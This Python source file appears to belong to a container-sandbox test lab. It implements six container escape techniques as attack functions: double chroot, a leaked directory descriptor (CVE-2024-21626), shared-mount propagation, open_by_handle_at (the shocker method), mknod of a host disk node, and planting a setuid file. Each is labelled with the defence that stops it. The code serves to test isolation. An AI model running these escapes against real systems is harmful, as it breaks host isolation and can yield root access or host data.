"""Attacks by files: a name, a number, a mount or an open directory that leads to what is not in the root filesystem."""

import os
import stat

from scratchlab import linux
from scratchlab.attacks.attack import Evidence, attack
from scratchlab.linux import Handle, Mount

DEEP = 64  # more levels than any working directory has


@attack(
    "chroot(2)", "pivot_root(2)", stopped_by=("pivot", "capabilities"),
    history="as old as chroot(2), whose manual page describes it; containers are made with pivot_root(2) for this",
)  # fmt: skip
def double_chroot(marker: str) -> Evidence:
    """Move the root below the working directory: then nothing stops `..` at the root that was left.  chroot(2)"""
    below = next(name for name in sorted(os.listdir("/")) if os.path.isdir(f"/{name}") and not os.path.islink(f"/{name}"))
    linux.chdir("/")
    linux.chroot(below)  # the working directory stays where it was, and that is outside now
    for _ in range(DEEP):
        linux.chdir("..")
    linux.chroot(".")
    return _read(marker)


@attack(
    "openat(2)", "pivot_root(2)", stopped_by=("close_fds",),
    history="CVE-2024-21626: runc left a descriptor of /sys/fs/cgroup open for the container; CVE-2019-5736 was its cousin",
)  # fmt: skip
def leaked_directory(marker: str) -> Evidence:
    """Walk on from a directory that was left open: it leads to where it always led.  openat(2)"""
    for fd in range(3, 256):
        try:
            linux.fchdir(fd)
        except OSError:  # not open, or no directory
            continue
        climb = "../" * DEEP
        if os.path.exists(climb + marker.lstrip("/")):
            return _read(climb + marker.lstrip("/"), f"descriptor {fd} leads out, ")
    return Evidence(False, "no open directory leads out")


@attack(
    "mount_namespaces(7)", stopped_by=("private_mounts", "capabilities"),
    history="Docker's `--volume …:shared` with CAP_SYS_ADMIN; why every engine makes its mounts private or slave first",
)  # fmt: skip
def shared_mount(volume: str) -> Evidence:
    """Mount something on a shared mount: its peers get it too, and one of them is the host's.  mount_namespaces(7)"""
    place = f"{volume}/appears"
    linux.mkdir(place)
    linux.mount("tmpfs", place, "tmpfs", Mount(0), "size=4k")
    return Evidence(True, f"mounted a tmpfs at {place}")


@attack(
    "open_by_handle_at(2)", stopped_by=("capabilities",), also=("unshare_user",),
    history="shocker.c, 2014: Docker before 1.0 left CAP_DAC_READ_SEARCH to every container",
)  # fmt: skip
def file_handle(kind: int, number: str) -> Evidence:
    """Open a file of the same filesystem by its number: no path is walked, so no root holds it back.  open_by_handle_at(2)"""
    root = os.open("/", os.O_RDONLY)
    # In the wild it is guessed: numbers are small, and that of the filesystem's own root is always the same.
    fd = linux.open_by_handle_at(root, Handle(kind, bytes.fromhex(number)), os.O_RDONLY)
    return Evidence(True, f"handle {number}: {os.read(fd, 100).decode(errors='replace').strip()}")


@attack(
    "mknod(2)", stopped_by=("capabilities",), also=("unshare_user",),
    history="CAP_MKNOD is in Docker's default set to this day; there, the devices control group is the wall",
)  # fmt: skip
def device_node(major: int, minor: int) -> Evidence:
    """Make a node for the host's disk: a device is two numbers, and any filesystem can hold them.  mknod(2)"""
    node = next(f"{place}/disk-{os.getpid()}" for place in ("/dev", "/tmp", "/") if os.access(place, os.W_OK))
    linux.mknod(node, stat.S_IFBLK | 0o600, os.makedev(major, minor))
    try:
        with open(node, "rb") as disk:
            return Evidence(True, f"disk {major}:{minor} begins with {disk.read(40).split(b'.')[0].decode(errors='replace')}")
    finally:
        os.unlink(node)


@attack(
    "chmod(2)", "execve(2)", stopped_by=("seccomp",),
    history="a user of the host executes what root of a container left in a shared folder, and is root; CVE-2021-41091 (Moby)",
)  # fmt: skip
def setuid_file(volume: str) -> Evidence:
    """Leave a program with the set-user-ID bit in a folder of the host: whoever starts it there is root.  execve(2)"""
    program = f"{volume}/harmless"
    with open(program, "w") as file:
        file.write("#!/bin/sh\n")
    linux.chmod(program, 0o4755)
    mode = stat.S_IMODE(os.stat(program).st_mode)
    return Evidence(bool(mode & stat.S_ISUID), f"{program} has mode {mode:o}")


def _read(path: str, how: str = "") -> Evidence:
    with open(path) as file:
        return Evidence(True, f"{how}{os.path.basename(path)} says {file.read().strip()}")
